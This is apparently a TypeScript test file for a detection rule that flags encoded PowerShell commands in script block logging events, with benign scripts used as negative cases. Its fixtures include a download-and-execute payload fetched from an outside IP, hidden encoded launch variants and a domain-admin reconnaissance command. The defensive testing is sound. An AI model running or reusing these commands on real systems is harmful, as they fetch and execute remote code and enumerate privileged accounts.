// The rule on encoded commands in PowerShell script block logging
// (playbooks/rules/ps-scriptblock-encoded.yaml) over `event` records built here as the eventlogs
// step and `magpie import evtx` make them: Microsoft-Windows-PowerShell/Operational 4104 with
// EventData by name (MessageNumber, MessageTotal, ScriptBlockText, ScriptBlockId, Path).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { EventRecord } from '../lib/records/schemas.ts';
import { loadRules } from '../lib/triage/rules.ts';
import { RuleIndex } from '../lib/triage/rule-index.ts';
import { ruleHits } from './helpers.ts';

const ID = 'magpie-ps-scriptblock-encoded';
let recordId = 5000;
const block = (text: string, o: { channel?: string; eventId?: number; path?: string } = {}) =>
  EventRecord.parse({
    channel: o.channel ?? 'Microsoft-Windows-PowerShell/Operational', provider: 'Microsoft-Windows-PowerShell', eventId: o.eventId ?? 4104, time: '2026-11-20T03:14:07.000Z', computer: 'WS-0142.corp.example.com', recordId: recordId++, level: 5, user: 'S-1-5-21-1004336348-1177238915-682003330-1105',
    data: { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: text, ScriptBlockId: '4f3a9c2e-8d1b-4c6a-9e7f-2b5d8a1c3e90', Path: o.path ?? '' },
  });

/** -EncodedCommand's argument: the command in UTF-16LE, base64. */
const enc = (command: string) => Buffer.from(command, 'utf16le').toString('base64');
const PAYLOAD = enc("$c=New-Object Net.WebClient;$c.DownloadString('http://203.0.113.7/a')|IEX");

const hits = (recs: Record<string, unknown>[]) => ruleHits(new RuleIndex(loadRules()), 'event', recs, (e, r: any) => (e.rule.def.id === ID ? `${e.rule.def.level} ${r.recordId}` : '')).filter(Boolean);
const fired = (text: string, o?: Parameters<typeof block>[1]) => hits([block(text, o)]).length > 0;

test('an encoded launch hits, high: -EncodedCommand, -enc, -ec, -e, /enc and an en dash, quoted or not, in any case', () => {
  const launches = [
    `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${PAYLOAD}`,
    `Start-Process powershell -ArgumentList "-nop -w hidden -enc ${PAYLOAD}"`,
    `& powershell.exe -ec ${PAYLOAD}`,
    `$p = [Diagnostics.Process]::Start('powershell.exe', '-e ${PAYLOAD}')`,
    `cmd.exe /c powershell /enc ${PAYLOAD}`,
    `powershell \u2013ENC "${PAYLOAD}"`,
    `Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -encodedcommand ${PAYLOAD}'`,
    `powershell.exe -e ${enc('whoami /all; net group "Domain Admins" /domain')}`,
  ];
  for (const t of launches) assert.ok(fired(t), t);
  const recs = launches.map((t) => block(t));
  assert.equal(hits(recs), recs.map((r) => `high ${r.recordId}`));
});

test('FromBase64String with Invoke-Expression or IEX in the same block hits; decoding alone does not', () => {
  const decodeAndRun = [
    "$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='))\nInvoke-Expression $s",
    "IEX ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($blob)))",
    "$x = [convert]::frombase64string($d); iex([text.encoding]::ascii.getstring($x))",
    "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))) | Out-Null; $b | iex",
  ];
  for (const t of decodeAndRun) assert.ok(fired(t), t);
  assert.not.ok(fired("$bytes = [Convert]::FromBase64String($env:CERT_B64)\n[IO.File]::WriteAllBytes('C:\\ProgramData\\cert.cer', $bytes)"));
  // Invoke-Expression without a decode is an ordinary (if poor) script.
  assert.not.ok(fired("Invoke-Expression \"Get-Service -Name $name\""));
});

test('no hit: a script that mentions base64 in a comment, a Windows DSC configuration, -Encoding and -ErrorAction, short arguments', () => {
  const benign = `# Export the report. The attachment is sent base64-encoded by Send-MailMessage;
# to decode it by hand use [Convert]::FromBase64String (see the wiki), never Invoke-Expression on mail.
param([string]$Out = 'C:\\Reports\\weekly.csv')
$rows = Get-Service | Where-Object Status -eq 'Running' | Select-Object Name, DisplayName
$rows | Export-Csv -Path $Out -Encoding UTF8 -NoTypeInformation -ErrorAction Stop
$b64 = [Convert]::ToBase64String([IO.File]::ReadAllBytes($Out))
Write-Verbose "encoded $($b64.Length) characters" -Verbose`;
  const dsc = `Configuration WebServerBaseline
{
    param([string[]]$NodeName = 'localhost', [PSCredential]$Credential)
    Import-DscResource -ModuleName PSDesiredStateConfiguration
    Node $NodeName
    {
        WindowsFeature IIS { Ensure = 'Present'; Name = 'Web-Server' }
        File DefaultPage
        {
            DestinationPath = 'C:\\inetpub\\wwwroot\\index.html'
            Contents = 'ok'
            Ensure = 'Present'
            DependsOn = '[WindowsFeature]IIS'
        }
        Script ImportCertificate
        {
            GetScript = { @{ Result = (Test-Path Cert:\\LocalMachine\\My\\5E0C1F2D9A8B7C6D5E4F3A2B1C0D9E8F7A6B5C4D) } }
            TestScript = { Test-Path Cert:\\LocalMachine\\My\\5E0C1F2D9A8B7C6D5E4F3A2B1C0D9E8F7A6B5C4D }
            SetScript = {
                $bytes = [System.Convert]::FromBase64String($using:CertBase64)
                Set-Content -Path "$env:TEMP\\web.pfx" -Value $bytes -Encoding Byte
                Import-PfxCertificate -FilePath "$env:TEMP\\web.pfx" -CertStoreLocation Cert:\\LocalMachine\\My -Exportable
            }
        }
    }
}
WebServerBaseline -OutputPath C:\\DSC\\WebServerBaseline -ConfigurationData $ConfigData
Start-DscConfiguration -Path C:\\DSC\\WebServerBaseline -Wait -Verbose -Force -ErrorAction Stop
Invoke-DscResource -Name File -ModuleName PSDesiredStateConfiguration -Method Test -Property @{ DestinationPath = 'C:\\inetpub\\wwwroot\\index.html'; Contents = 'ok' }`;
  const quiet = [
    benign,
    dsc,
    'Get-ChildItem -Path C:\\Logs -Recurse -ErrorAction SilentlyContinue -Exclude *.tmp',
    'powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\Backup-Database.ps1',
    'powershell -enc ZQBjAGgAbwAgAGgAaQA=', // a short one (echo hi): not the long payload the rule wants
    'Select-String -Path .\\build.log -e "error CS[0-9]+"',
    'robocopy C:\\Data \\\\fs01\\backup\\Data /e /copyall /r:1 /w:1',
  ];
  for (const t of quiet) assert.not.ok(fired(t), t);
  assert.equal(hits(quiet.map((t) => block(t))), []);
});

test('only script block logging: the same text in another event (4103, Windows PowerShell 400) or channel is not this rule\'s', () => {
  const text = `powershell.exe -NoProfile -EncodedCommand ${PAYLOAD}`;
  assert.ok(fired(text));
  assert.not.ok(fired(text, { eventId: 4103 }));
  assert.not.ok(fired(text, { channel: 'Windows PowerShell', eventId: 400 }));
  assert.not.ok(fired(text, { channel: 'Microsoft-Windows-Sysmon/Operational', eventId: 1 }));
});

test.run();
